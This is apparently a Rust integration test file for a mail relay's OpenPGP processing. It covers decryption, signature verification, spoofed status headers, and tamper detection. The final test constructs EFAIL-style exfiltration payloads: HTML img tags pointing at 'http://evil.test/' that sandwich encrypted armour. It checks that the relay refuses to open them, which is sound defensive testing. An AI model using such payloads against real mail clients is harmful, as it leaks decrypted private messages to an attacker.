//! What comes sealed or signed from outside.
use vaguemestre::domain::address::Address;
use vaguemestre::flow::contacts;
use vaguemestre::infra::keys::peers::PeerCertificate;

use super::DOCTOR;
use super::NURSE;
use super::OURS;
use super::PEER;
use super::QUICK;
use super::THEIRS;
use super::gpg::Gpg;
use super::office;
use super::published;
use crate::support::letters;
use crate::support::postfix::Postfix;
use crate::support::running::run;
use crate::support::running::said;
use crate::support::serving::Serving;
use crate::support::serving::Space;

/// A relay that knows the peer's certificate, and a Postfix that sends to it.
pub(super) struct Place<'s> {
    pub(super) relay: Serving<'s>,
    postfix: Postfix,
    pub(super) gpg: Gpg,
    space: &'s Space,
}

impl<'s> Place<'s> {
    async fn new(space: &'s Space) -> Self {
        Self::with(space, "").await
    }

    /// With these sections in its configuration.
    pub(super) async fn with(space: &'s Space, sections: &str) -> Self {
        let relay = space.relay(0).with(QUICK).with(sections);
        let postfix =
            Postfix::start(&space.pki, space.operator(1), &[(OURS, relay.port("mx"))], "");
        let mut relay = relay.start(&[DOCTOR, NURSE]);
        relay.kill();
        let gpg = Gpg::of(PEER);
        {
            let office = office(&relay).await;
            let certificate = PeerCertificate::read(&gpg.certificate(PEER)).unwrap();
            let address = Address::parse(PEER).unwrap();
            contacts::import(&office, &address, &certificate, "admin", "test").await.unwrap();
        }
        gpg.import(&published(&relay, DOCTOR).await);
        relay.begin();
        Self { relay, postfix, gpg, space }
    }

    /// Sends through Postfix; answers as it lies in the mailbox.
    pub(super) async fn take_in(&self, to: &[&str], letter: &str, id: &str) -> String {
        let file = self.space.folder().join("letter.eml");
        std::fs::write(&file, letter).unwrap();
        let server = format!("127.0.0.1:{}", self.postfix.local);
        let (data, to_all) = (format!("@{}", file.to_str().unwrap()), to.join(","));
        let output =
            run("swaks", &["--server", &server, "--from", PEER, "--to", &to_all, "--data", &data]);
        assert!(output.status.success(), "{}", said(&output));
        self.relay.wait_for(to[0], id).await
    }
}

pub(super) fn head(id: &str, more: &str) -> String {
    format!(
        "From: {PEER}\r\nTo: {DOCTOR}\r\nSubject: [...]\r\nMessage-ID: {id}\r\n{more}\
         MIME-Version: 1.0\r\n"
    )
}

fn mime(id: &str, message: &[u8], more: &str) -> String {
    let message = String::from_utf8_lossy(message).replace('\n', "\r\n");
    format!(
        "{}Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";\r\n \
         boundary=b\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --b\r\nContent-Type: application/octet-stream\r\n\r\n{message}\r\n--b--\r\n",
        head(id, more)
    )
}

/// The values of our field in a letter, unfolded.
pub(super) fn words(letter: &str) -> Vec<&'static str> {
    let head = letter.split("\r\n\r\n").next().unwrap();
    let ours = head.lines().filter(|line| line.contains("encrypted="));
    assert!(ours.clone().all(|line| line.len() <= 78), "{head}");
    // A test's memory ends with it.
    let head: &'static str = head.replace("\r\n ", " ").leak();
    let name = "x-vaguemestre-openpgp";
    head.lines()
        .filter(|line| line.to_ascii_lowercase().starts_with(name))
        .map(|line| line.split_once(": ").map_or("", |(_, value)| value))
        .collect()
}

const CLEAR: &[u8] = b"X-Vaguemestre-OpenPGP: encrypted=no\r\nSubject: Vrai sujet\r\n\
    Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\n\r\nBien le bonjour\r\n";
const SPOOF: &str = "x-vaguemestre-openPGP : encrypted=yes;\r\n\tsignature=good; from=match\r\n";

#[tokio::test]
async fn a_letter_sealed_to_a_key_that_we_hold_is_opened_verified_and_kept_as_it_came() {
    let space = Space::of(&[OURS, THEIRS]);
    let place = Place::new(&space).await;
    let id = letters::message_id();
    let signed = place.gpg.encrypt(CLEAR, DOCTOR, &["--sign"]);
    let sent = mime(&id, &signed, SPOOF);
    let lies = place.take_in(&[DOCTOR, NURSE], &sent, &id).await;
    assert!(lies.contains("\r\n\r\nBien le bonjour\r\n"), "{lies}");
    assert!(lies.contains("Subject: Vrai sujet\r\n") && !lies.contains("PGP MESSAGE"), "{lies}");
    let [word] = words(&lies)[..] else { panic!("{lies}") };
    assert!(word.starts_with("encrypted=yes; opened=yes; signature=good; by="), "{word}");
    assert!(word.ends_with("; from=match"), "{word}");
    // As it came, beside.
    let mut imap = place.relay.imap(DOCTOR).await;
    imap.command("SELECT OpenPGP").await.unwrap();
    let found = imap.command("FETCH 1 (FLAGS BODY.PEEK[])").await.unwrap().concat();
    let found = String::from_utf8_lossy(&found).into_owned();
    assert!(found.contains("\\Seen") && found.contains("BEGIN PGP MESSAGE"), "{found}");
    assert!(!found.to_ascii_lowercase().contains("x-vaguemestre"), "{found}");
    // Whoever it was not sealed for gets it as it came, and our word on that.
    let theirs = place.relay.wait_for(NURSE, &id).await;
    assert_eq!(words(&theirs), ["encrypted=yes; opened=no; reason=other-key"], "{theirs}");
    assert!(theirs.contains("BEGIN PGP MESSAGE"), "{theirs}");
    // No signature, one of somebody whom nobody knows, an armoured text alone.
    let id = letters::message_id();
    let plain = place.gpg.encrypt(CLEAR, DOCTOR, &[]);
    let lies = place.take_in(&[DOCTOR], &mime(&id, &plain, ""), &id).await;
    assert_eq!(words(&lies), ["encrypted=yes; opened=yes; signature=none"], "{lies}");
    let stranger = Gpg::of("inconnu@ailleurs.test");
    stranger.import(&published_by(&place).await);
    let id = letters::message_id();
    let text = stranger.encrypt("Texte seul é\n".as_bytes(), DOCTOR, &["--sign"]);
    let text = String::from_utf8(text).unwrap().replace('\n', "\r\n");
    let letter = format!("{}Content-Type: text/plain\r\n\r\n{text}", head(&id, SPOOF));
    let lies = place.take_in(&[DOCTOR], &letter, &id).await;
    let [word] = words(&lies)[..] else { panic!("{lies}") };
    assert!(word.starts_with("encrypted=yes; opened=yes; signature=unknown; by="), "{word}");
    assert!(lies.contains("\r\n\r\nTexte seul é\r\n"), "{lies}");
}

/// The doctor's certificate as gpg of the place has it.
async fn published_by(place: &Place<'_>) -> String {
    String::from_utf8(place.gpg.certificate(DOCTOR)).unwrap()
}

#[tokio::test]
async fn signed_letters_stay_as_they_are_and_carry_our_word() {
    let space = Space::of(&[OURS, THEIRS]);
    let place = Place::new(&space).await;
    let entity = "Content-Type: text/plain\r\n\r\nSigné par moi\r\n".replace('é', "e");
    let signature = place.gpg.sign_detached(entity.as_bytes());
    let signature = String::from_utf8(signature).unwrap().replace('\n', "\r\n");
    let letter = |entity: &str, id: &str| {
        format!(
            "{}Content-Type: multipart/signed; micalg=pgp-sha512;\r\n \
             protocol=\"application/pgp-signature\"; boundary=b\r\n\r\n--b\r\n{entity}\r\n--b\r\n\
             Content-Type: application/pgp-signature\r\n\r\n{signature}\r\n--b--\r\n",
            head(id, SPOOF)
        )
    };
    let id = letters::message_id();
    let lies = place.take_in(&[DOCTOR, NURSE], &letter(&entity, &id), &id).await;
    let [word] = words(&lies)[..] else { panic!("{lies}") };
    assert!(word.starts_with("encrypted=no; signature=good; by="), "{word}");
    assert!(word.ends_with("from=match") && lies.contains(&signature), "{lies}");
    let theirs = place.relay.wait_for(NURSE, &id).await;
    assert_eq!(words(&theirs), [word]);
    let id = letters::message_id();
    let lies = place.take_in(&[DOCTOR], &letter(&entity.replace("moi", "toi"), &id), &id).await;
    assert_eq!(words(&lies), ["encrypted=no; signature=bad"], "{lies}");
}

#[tokio::test]
async fn what_was_altered_or_glued_to_clear_text_is_never_opened() {
    let space = Space::of(&[OURS, THEIRS]);
    let place = Place::new(&space).await;
    let message = place.gpg.encrypt(CLEAR, DOCTOR, &[]);
    // One octet in the middle of the encrypted packet.
    let text = String::from_utf8(message.clone()).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    let middle = lines.len() - 4;
    let flipped = if lines[middle].as_bytes()[9] == b'A' { "B" } else { "A" };
    lines[middle].replace_range(9..10, flipped);
    // The armour's checksum would give it away before the cryptography does.
    lines.retain(|line| !(line.starts_with('=') && line.len() == 5));
    let altered = lines.join("\n");
    let id = letters::message_id();
    let lies = place.take_in(&[DOCTOR], &mime(&id, altered.as_bytes(), ""), &id).await;
    let [word] = words(&lies)[..] else { panic!("{lies}") };
    assert!(word.starts_with("encrypted=yes; opened=no; reason="), "{word}");
    assert!(!lies.contains("bonjour"), "{lies}");
    // EFAIL, direct exfiltration: the message between two halves of an image's address.
    let id = letters::message_id();
    let armour = text.replace('\n', "\r\n");
    let sandwich = format!(
        "{}Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n\
         <img src=\"http://evil.test/\r\n--o\r\nContent-Type: multipart/encrypted;\r\n \
         protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n--b\r\nContent-Type: \
         application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\nContent-Type: \
         application/octet-stream\r\n\r\n{armour}\r\n--b--\r\n--o\r\nContent-Type: text/html\r\n\r\n\
         \">\r\n--o--\r\n",
        head(&id, "")
    );
    let lies = place.take_in(&[DOCTOR], &sandwich, &id).await;
    assert!(words(&lies).is_empty() && !lies.contains("bonjour"), "{lies}");
    let id = letters::message_id();
    let mixed =
        format!("{}\r\nLisez <img src=\"http://evil.test/\r\n{armour}\r\n\">\r\n", head(&id, ""));
    let lies = place.take_in(&[DOCTOR], &mixed, &id).await;
    assert_eq!(words(&lies), ["encrypted=yes; opened=no; reason=mixed-with-clear-text"]);
    assert!(!lies.contains("bonjour"), "{lies}");
}
